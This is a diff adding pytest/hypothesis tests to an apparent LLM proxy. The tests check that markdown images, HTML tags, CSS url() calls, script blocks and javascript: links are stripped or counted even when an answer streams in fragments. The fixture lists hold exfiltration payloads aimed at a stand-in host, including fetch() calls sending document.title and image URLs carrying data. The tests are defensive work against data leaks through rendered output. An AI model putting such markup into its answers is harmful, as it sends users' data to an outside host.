@@ -7,7 +7,7 @@ from typing import Any
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
-from msgspec import structs
+from msgspec import convert, structs
 
 from llmproxy.common.answers import Answers
 from llmproxy.common.envelope import Api
@@ -140,6 +140,108 @@ def test_what_is_in_several_parts_ends_the_answer_where_the_policy_says_so(api: 
 )  # fmt: skip
 def test_parts_that_hold_nothing_together_stay_as_they_are(api: Api, parts: list[str], size: int) -> None:
     assert play(api, parts, size) == ("".join(parts), {})
+
+
+EVIL = "https://collect.evil-example.net"
+OVERLONG = "answer.image.overlong"  # What was too long for one text may be too long again.
+SHOWN = [
+    f"see ![x]({EVIL}/p.png?d=everything) now",
+    f"see ![a [b] c](<{EVIL}/p?d=1> 'title') now) and ![y](https://ok.example/a.png)",
+    f"![x][r] and\n\n[r]: {EVIL}/p?d=1\n\nmore [r] text",
+    f"a <img alt='x y' src=\"{EVIL}/p?d=1\"> b' c\" d> e",
+    f"a <b title=x onmouseover=fetch('{EVIL}/?d=1')>it</b> <base href='{EVIL}/'> z",
+    f"<style>.a {{ color: red }} p {{ background: url({EVIL}/p?d=1) }} q {{ color: blue }}</style> after",
+    f"<p><script>let a = 1; fetch('{EVIL}/?d=' + document.title); b()</script> after",
+    "<script type=module>\nnew Image().src = name\nx = 1\n</script> after",
+    f"```\ncode\n```\n![x]({EVIL}/p.png?d=1)\n```\nmore\n```\n",
+    f"Hello![x]({EVIL}/{'a' * 3_000}?d=1) now",
+]
+
+
+def seen_in(text: str) -> dict[str, int]:
+    """What a reader of one text would still have to fear. The marks are read as words: brackets in a script may be code."""
+    read = reading()
+    one = read.open()
+    one.push(text.replace("[IMAGE_REDACTED]", "IMAGE_REDACTED"))
+    one.flush()
+    return {kind: count for kind, count in read.counts.items() if kind.startswith("answer.image") and kind != OVERLONG}
+
+
+@pytest.mark.parametrize("text", SHOWN)
+@pytest.mark.parametrize("api", APIS)
+@settings(max_examples=15, deadline=None)
+@given(places=cuts, size=st.integers(1, 60))
+def test_markup_that_is_in_several_parts_shows_and_runs_nothing_apart_or_together(
+    api: Api, text: str, places: list[int], size: int
+) -> None:
+    parts = cut(text, places)
+    said, counts = play(api, parts, 0)
+    assert any(kind.startswith("answer.image") for kind in counts)
+    assert seen_in(said) == {}
+    assert play(api, parts, size) == (said, counts)
+
+
+@pytest.mark.parametrize("text", SHOWN)
+@settings(max_examples=20, deadline=None)
+@given(place=st.integers(0, 4_000))
+def test_markup_in_two_parts_is_nothing_wherever_it_is_cut(text: str, place: int) -> None:
+    said, _ = play("messages", cut(text, [place]), 0)
+    assert seen_in(said) == {}
+
+
+LONG = "x" * 1_100  # For a statement of a script, which is then judged in pieces.
+MARKUP = [
+    "![", "!", "[x]", "](", "(", ")", "]", "[r]: ", "\n", "\n\n", " ", f"{EVIL}/p?d=1", f"{EVIL}/", "?d=1", "//evil.example/?d=1", "<", "<img ", "<b ", "src=", "=", "'", '"',
+    ">", "<base href=", "<style>", "</style>", "url(", "}", "{", "<script>", "</script>", "fet", "ch(", ";", "<!--", "onload=", "```", "```\n", "~~~\n", "word ", LONG, "javascript:",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("api", ["messages", "responses"])
+@settings(max_examples=100, deadline=None)
+@given(
+    parts=st.lists(st.lists(st.sampled_from(MARKUP), min_size=1, max_size=8).map("".join), min_size=1, max_size=5),
+    size=st.integers(1, 40),
+)
+def test_whatever_parts_of_markup_there_are_they_are_the_same_streamed_and_whole_and_show_nothing(
+    api: Api, parts: list[str], size: int
+) -> None:
+    said, counts = play(api, parts, 0)
+    assert play(api, parts, size) == (said, counts)
+    if LONG not in said and "`" not in said:  # Of a statement that was taken out, a tag around it may stay open.
+        assert seen_in(said) == {}
+
+
+LINKS = ["see [x](javascript:alert(1)) now", "see [x](data:text/html;base64,PHNjcmlwdD4=) now"]
+
+
+@pytest.mark.parametrize("text", LINKS)
+@pytest.mark.parametrize("api", APIS)
+@settings(max_examples=15, deadline=None)
+@given(places=cuts, within=st.integers(5, 10), size=st.integers(1, 60))
+def test_a_link_in_several_parts_is_recorded(api: Api, text: str, places: list[int], within: int, size: int) -> None:
+    for parts in (cut(text, places), cut(text, [within])):
+        said, counts = play(api, parts, 0)
+        assert said == text
+        assert counts["answer.link.script"] >= 1
+        assert play(api, parts, size) == (said, counts)
+    assert counts == {"answer.link.script": 1}
+
+
+@pytest.mark.parametrize("size", [0, 5])
+def test_links_that_are_whole_in_their_parts_are_each_recorded_once(size: int) -> None:
+    parts = [LINKS[0], LINKS[0], "and [x](javas"]
+    assert play("messages", parts, size)[1] == {"answer.link.script": 2}
+
+
+def test_a_denied_link_in_several_parts_is_taken_out() -> None:
+    policy = convert(
+        {"rails": {"links": {"denied": ["stranger.example"], "action": "replace", "direction": "answer"}}}, Policy
+    )
+    read = Reading(Guards(GUARDS, policy), Asked(), Originals({}), clock=lambda: 0.0)
+    event = json.dumps(whole("messages", ["see https://stran", "ger.example/x?d=1 ok"])).encode()
+    (said,) = restorer("messages", read, stream=False).chunk(event)
+    assert b"ger.example/x" not in said
+    assert read.counts == {"answer.link": 1}
 
 
 def test_what_is_taken_out_of_one_of_two_parts_that_are_alike_does_not_come_back_where_both_are_repeated() -> None:
